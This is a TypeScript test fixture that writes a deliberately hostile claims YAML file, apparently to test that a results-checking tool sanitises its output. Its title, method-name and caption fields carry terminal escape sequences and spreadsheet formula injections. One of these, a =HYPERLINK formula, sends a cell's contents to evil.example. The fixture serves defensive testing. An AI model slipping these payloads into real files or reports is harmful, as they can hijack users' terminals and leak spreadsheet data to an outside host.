/**
 * A claim file written by someone hostile, with a real predictions config that runs: its text
 * (title, method name, table caption) carries terminal escape sequences and spreadsheet formulas.
 */
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { clevrStyleSet, writeClevrStyleSet } from '../helpers/clevr-style.js';

/** Clears the screen, sets the window title, and a C1 CSI (U+009B) that some terminals obey. */
export const ESC_TEXT = '\u001b[2J\u001b]0;pwned\u0007\u009b31m';
export const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

export function hostilePaper(): { root: string; claims: string; data: string } {
  const root = mkdtempSync(join(tmpdir(), 'hostile-paper-'));
  const data = join(root, 'data');
  mkdirSync(data);
  writeClevrStyleSet(data, clevrStyleSet(60, 3));
  const claims = join(root, 'claims');
  mkdirSync(claims);
  const q = (s: string) => JSON.stringify(s);
  writeFileSync(
    join(claims, 'evil.yaml'),
    `schemaVersion: 1
paper: {id: evil, title: ${q(`Evil ${ESC_TEXT} paper`)}, docs: [{id: paper, file: evil.txt, kind: paper}]}
methods: [{id: ours, name: ${q(FORMULA)}, own: true}, {id: base, name: ${q(`Base${ESC_TEXT}`)}}, {id: copy, name: Copy}]
datasets: [{id: clevr-change, name: CLEVR-Change}]
tables:
  - id: main
    source: {doc: paper, table: 1, section: ${q(`@SUM(1+1)${ESC_TEXT}`)}}
    dataset: clevr-change
    columns: [Bleu_4, CIDEr, ROUGE_L]
    rows:
      - {method: ours, values: [55.0, 121.0, 70.0]}
      - {method: base, values: [50.0, 110.0, 68.0]}
      - {method: copy, values: [50.0, 110.0, 68.0]}
configs:
  - id: evil-preds
    description: ${q(`scored ${ESC_TEXT}`)}
    method: ours
    dataset: clevr-change
    split: test
    runner: predictions
    predictions: preds.json
    references: refs.json
`,
  );
  return { root, claims, data };
}
